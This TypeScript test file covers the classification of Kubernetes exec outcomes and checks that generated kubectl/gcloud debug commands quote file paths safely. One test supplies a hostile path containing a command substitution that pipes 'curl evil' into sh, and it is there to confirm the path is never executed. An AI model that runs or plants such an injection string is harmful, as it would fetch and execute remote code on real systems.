import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { describe, test } from 'node:test';
import shellQuote from 'shell-quote';
import { classifyExecError, classifyExecResult, failureKind } from '../../shared/evidence/exec-outcome.js';
import { manualDebugCopyCommands } from '../../shared/evidence/manual-command.js';
import { ResponderError, TimeoutError } from '../../shared/common/errors.js';

const result = (exitCode: number | null, stderr = '', extra: { status?: 'Success' | 'Failure' | 'Unknown'; message?: string } = {}) => ({
  exitCode,
  status: extra.status ?? (exitCode === 0 ? 'Success' : exitCode === null ? 'Unknown' : 'Failure'),
  stderr,
  ...(extra.message ? { message: extra.message } : {}),
}) as const;

describe('classifyExecResult', () => {
  test('exit 0 with Success is ok', () => {
    assert.equal(classifyExecResult(result(0), 'cat').outcome, 'ok');
  });

  test('no tool: containerd message / 126 / 127', () => {
    const msg = 'OCI runtime exec failed: exec failed: unable to start container process: exec: "cat": executable file not found in $PATH: unknown';
    assert.equal(classifyExecResult(result(126, '', { message: msg }), 'cat').outcome, 'tool-missing');
    assert.equal(classifyExecResult(result(127, 'sh: cat: not found'), 'cat').outcome, 'tool-missing');
    assert.equal(classifyExecResult(result(1, '', { message: msg }), 'cat').outcome, 'tool-missing');
  });

  test('no tool, as containerd answers it: InternalError with no exit code is tool-missing, not a dropped stream', () => {
    const internal =
      'Internal error occurred: error executing command in container: failed to exec in container: failed to start exec "0f3c": OCI runtime exec failed: exec failed: unable to start container process: exec: "cat": executable file not found in $PATH: unknown';
    const c = classifyExecResult(result(null, '', { status: 'Failure', message: internal }), 'cat');
    assert.equal(c.outcome, 'tool-missing');
    assert.match(c.reason, /no exit code/);
  });

  test('file missing (cat and GNU tar wording), permission denied, directory', () => {
    assert.equal(classifyExecResult(result(1, 'cat: /x: No such file or directory\n'), 'cat').outcome, 'file-missing');
    assert.equal(classifyExecResult(result(2, 'tar: Removing leading `/\' from member names\ntar: /x: Cannot stat: No such file or directory\n'), 'tar').outcome, 'file-missing');
    assert.equal(classifyExecResult(result(1, 'cat: /x: Permission denied\n'), 'cat').outcome, 'permission-denied');
    assert.equal(classifyExecResult(result(1, 'cat: /x: Is a directory\n'), 'cat').outcome, 'not-a-regular-file');
  });

  test('no exit status at all: the stream was dropped', () => {
    const c = classifyExecResult(result(null, '', { status: 'Unknown', message: 'the exec stream closed without an exit status' }), 'cat');
    assert.equal(c.outcome, 'stream-dropped');
  });

  test('anything else is exec-failed with the first stderr line', () => {
    const c = classifyExecResult(result(3, '\n  cat: read error: Input/output error\nmore'), 'cat');
    assert.equal(c.outcome, 'exec-failed');
    assert.match(c.reason, /exit 3: cat: read error: Input\/output error/);
  });
});

describe('classifyExecError', () => {
  const kubeErr = (statusCode: number, message: string): ResponderError =>
    Object.assign(new ResponderError(`kubernetes exec pods/exec ns/p: HTTP ${statusCode}: ${message}`, statusCode >= 500 ? 'transient' : 'permanent', { code: statusCode }), { statusCode });

  test('403/401 -> exec-forbidden; 404 -> pod-gone', () => {
    assert.equal(classifyExecError(kubeErr(403, 'forbidden'), 'cat').outcome, 'exec-forbidden');
    assert.equal(classifyExecError(kubeErr(401, 'Unauthorized'), 'cat').outcome, 'exec-forbidden');
    assert.equal(classifyExecError(kubeErr(404, 'pods "p" not found'), 'cat').outcome, 'pod-gone');
    assert.equal(classifyExecError(new Error('Unexpected server response: 403'), 'cat').outcome, 'exec-forbidden');
  });

  test('400 container not running / not valid', () => {
    const c = classifyExecError(kubeErr(400, 'container app is not running'), 'cat');
    assert.equal(c.outcome, 'container-not-running');
    assert.equal(c.code, 400);
    assert.equal(classifyExecError(kubeErr(400, 'container x is not valid for pod p'), 'cat').outcome, 'invalid-target');
  });

  test('timeouts and broken connections', () => {
    assert.equal(classifyExecError(new TimeoutError('exec cat', 10), 'cat').outcome, 'timeout');
    assert.equal(classifyExecError(Object.assign(new Error('read ECONNRESET'), { code: 'ECONNRESET' }), 'cat').outcome, 'stream-dropped');
  });

  test('5xx stays exec-failed with its code, classified transient', () => {
    const c = classifyExecError(kubeErr(503, 'unavailable'), 'cat');
    assert.equal(c.outcome, 'exec-failed');
    assert.equal(c.code, 503);
    assert.equal(failureKind('exec-failed', 503), 'transient');
    assert.equal(failureKind('exec-failed', 400), 'permanent');
  });

  test('failure kinds: what a retry can fix', () => {
    for (const f of ['timeout', 'stream-dropped', 'aborted'] as const) assert.equal(failureKind(f), 'transient');
    for (const f of ['file-missing', 'no-tools', 'exec-forbidden', 'pod-gone', 'container-not-running', 'permission-denied', 'invalid-path'] as const) assert.equal(failureKind(f), 'permanent');
    assert.equal(failureKind('store-failed', 429), 'transient');
    assert.equal(failureKind('store-failed', 'ECONNRESET'), 'transient');
    assert.equal(failureKind('store-failed', 403), 'permanent');
  });
});

describe('manualDebugCopyCommands', () => {
  test('zonal cluster, hostile path stays one inert word', () => {
    const path = "/tmp/$(curl evil|sh);`id` 'q' \"d\" *";
    const cmds = manualDebugCopyCommands({
      cluster: { project: 'p', location: 'europe-west1-b', locationKind: 'zone', name: 'c', resourceName: '' },
      namespace: 'ns',
      pod: 'pod-1',
      container: 'app',
      path,
    });
    assert.deepEqual(shellQuote.parse(cmds[0] ?? ''), ['gcloud', 'container', 'clusters', 'get-credentials', 'c', '--zone', 'europe-west1-b', '--project', 'p']);
    assert.ok(shellQuote.parse(cmds[1] ?? '').includes('busybox:1.36.1'), 'an image hint when the policy has none');
    const [copy] = (cmds[2] ?? '').split(' > ');
    // A real shell parses the command into exactly our argv (`set --` only assigns, runs nothing).
    const words = execFileSync('sh', ['-c', `set -- ${copy ?? ''}; printf '%s\\0' "$@"`], { encoding: 'utf8' }).split('\0').slice(0, -1);
    assert.deepEqual(words, ['kubectl', 'exec', '--namespace', 'ns', 'pod-1', '--container', 'scc-evidence', '--', 'cat', '--', `/proc/1/root${path}`]);
  });

  test('no cluster: no credentials command', () => {
    assert.equal(manualDebugCopyCommands({ cluster: null, namespace: 'n', pod: 'p', container: 'c', path: '/x', image: 'img@sha256:1' }).length, 2);
  });
});
